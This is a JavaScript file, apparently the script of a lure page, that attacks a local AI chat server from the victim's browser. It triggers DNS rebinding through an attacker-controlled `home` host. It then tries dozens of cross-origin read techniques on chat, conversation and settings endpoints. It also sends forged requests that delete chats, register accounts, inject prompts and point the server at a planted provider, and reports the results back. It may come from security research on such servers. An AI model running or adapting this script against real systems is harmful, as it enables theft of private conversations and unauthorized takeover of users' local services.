// A page that somebody was lured to. It knows everything about the server but a token, and even a chat's id.

const READS = [
  "/openapi.json",
  "/openapi.yaml",
  "/docs",
  "/health/ready",
  "/chats",
  `/chats/${chat}`,
  "/conversations",
  `/conversations/inference/${chat}`,
  `/conversation/${chat}`,
  "/prompt",
  "/agents",
  "/api/conversations",
  "/api/settings",
];

const JSON_CHANGES = [
  ["POST", "/chats/create", { name: "planted" }],
  ["PUT", `/chats/update/${chat}`, { name: "planted" }],
  ["DELETE", `/chats/delete/${chat}`, undefined],
  ["POST", "/conversations/create", { chat_id: chat, role: "Human", message: "planted" }],
  ["POST", "/prompt?prompt=planted", undefined],
  ["POST", "/prompt", { prompt: "planted" }],
  ["POST", "/users", { username: "planted", email: "p@example.org", password: "planted planted" }],
  ["POST", "/user/register/", { username: "planted", email: "p@example.org", password: "planted planted" }],
  ["POST", "/auth/register", { email: "p@example.org", password: "planted planted" }],
  ["POST", "/api/conversations", { title: "planted" }],
  ["PUT", "/api/account/sign-in", { username: "planted", email: "p@example.org", password: "planted planted" }],
  ["PATCH", "/api/settings", { planted: true }],
  ["POST", "/api/providers", { name: "planted", address: "http://planted.example/v1" }],
];

const SIMPLE_TYPES = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=b"];
const TAGS = { img: "src", script: "src", iframe: "src", embed: "src", object: "data", link: "href", video: "src", audio: "src" };

function content(frame) {
  try {
    return frame.contentDocument?.body?.innerText;
  } catch {
    return null;
  }
}

// Puts an element into the page that loads an address, and waits until it has loaded or given up.
function embed(tag, address) {
  return new Promise((done) => {
    const element = document.createElement(tag);
    if (tag === "link") {
      element.rel = "stylesheet";
    }
    const end = () => done(tag === "iframe" || tag === "object" ? content(element) : element.naturalWidth ? "a picture" : null);
    element.onload = end;
    element.onerror = end;
    element[TAGS[tag]] = address;
    document.body.append(element);
    setTimeout(end, 1000);
  });
}

function submit(method, type, address, fields) {
  return new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = `frame${document.forms.length}`;
    const form = document.createElement("form");
    Object.assign(form, { method, enctype: type, action: address, target: frame.name });
    for (const [name, value] of Object.entries(fields)) {
      form.append(Object.assign(document.createElement("input"), { name, value }));
    }
    document.body.append(frame, form);
    form.submit();
    setTimeout(() => done(content(frame)), 700);
  });
}

function socket(address) {
  return new Promise((done, fail) => {
    const opened = new WebSocket(address);
    opened.onopen = () => done("opened");
    opened.onmessage = (event) => done(event.data);
    opened.onerror = () => fail(new Error("refused"));
  });
}

function events(address) {
  return new Promise((done, fail) => {
    const source = new EventSource(address, { withCredentials: true });
    source.onopen = () => done("opened");
    source.onmessage = (event) => done(event.data);
    source.onerror = () => (source.close(), fail(new Error("refused")));
  });
}

function oldFashioned(method, address) {
  return new Promise((done) => {
    const request = new XMLHttpRequest();
    request.open(method, address);
    request.withCredentials = true;
    request.onloadend = () => done(request.responseText || request.getAllResponseHeaders());
    request.send();
  });
}

function worker(address) {
  const code = `fetch(${JSON.stringify(address)}).then(a => a.text()).then(postMessage, () => postMessage(null))`;
  const helper = new Worker(URL.createObjectURL(new Blob([code])));
  return new Promise((done) => (helper.onmessage = (event) => done(event.data)));
}

async function window_(address) {
  const other = window.open(address);
  await new Promise((done) => setTimeout(done, 700));
  try {
    return other?.document?.body?.innerText;
  } catch {
    return null;
  } finally {
    other?.close();
  }
}

async function attack() {
  await fetch(`${home}/rebind?${new URL(target).port}`, { mode: "no-cors" });
  const all = [];
  const start = (name, action) => all.push(attempt(name, action));
  for (const path of READS) {
    const address = target + path;
    for (const credentials of ["omit", "include"]) {
      for (const mode of ["cors", "no-cors"]) {
        start(`fetch ${mode} ${credentials} ${path}`, async () => readable(await fetch(address, { mode, credentials })));
      }
    }
    start(`fetch with a header ${path}`, async () =>
      readable(await fetch(address, { headers: { Authorization: "Bearer guess", "X-User-Id": "1" } })),
    );
    start(`XMLHttpRequest ${path}`, () => oldFashioned("GET", address));
    start(`worker ${path}`, () => worker(address));
    for (const tag of Object.keys(TAGS)) {
      start(`${tag} ${path}`, () => embed(tag, address));
    }
  }
  await Promise.all(all.splice(0));
  for (const [method, path, body] of JSON_CHANGES) {
    const address = target + path;
    const text = JSON.stringify(body);
    start(`${method} JSON ${path}`, async () =>
      readable(await fetch(address, { method, body: text, credentials: "include", headers: { "Content-Type": "application/json" } })),
    );
    start(`${method} plainly ${path}`, async () => readable(await fetch(address, { method, body: text })));
    for (const type of SIMPLE_TYPES) {
      start(`POST no-cors ${type} ${path}`, async () =>
        readable(
          await fetch(address, { method: "POST", mode: "no-cors", credentials: "include", body: text ?? "prompt=planted", headers: { "Content-Type": type } }),
        ),
      );
    }
    start(`beacon ${path}`, async () => void navigator.sendBeacon(address, new Blob([text ?? ""], { type: "text/plain" })));
    start(`XMLHttpRequest ${path}`, () => oldFashioned(method, address));
    for (const type of ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data"]) {
      start(`form ${type} ${path}`, () => submit("post", type, address, body ?? { prompt: "planted" }));
    }
  }
  await Promise.all(all.splice(0));
  start("form get", () => submit("get", "", `${target}/conversations/inference/${chat}`, {}));
  start("EventSource", () => events(`${target}/conversations/inference/${chat}`));
  start("EventSource of a list", () => events(`${target}/chats`));
  start("WebSocket", () => socket(`${target.replace("http", "ws")}/async_chat?token=guess`));
  start("WebSocket of a list", () => socket(`${target.replace("http", "ws")}/chats`));
  start("window", () => window_(`${target}/chats`));
  start("service worker", async () => (await navigator.serviceWorker.register(`${target}/openapi.json`)) && "registered");
  await Promise.all(all);
  await report();
}

attack();
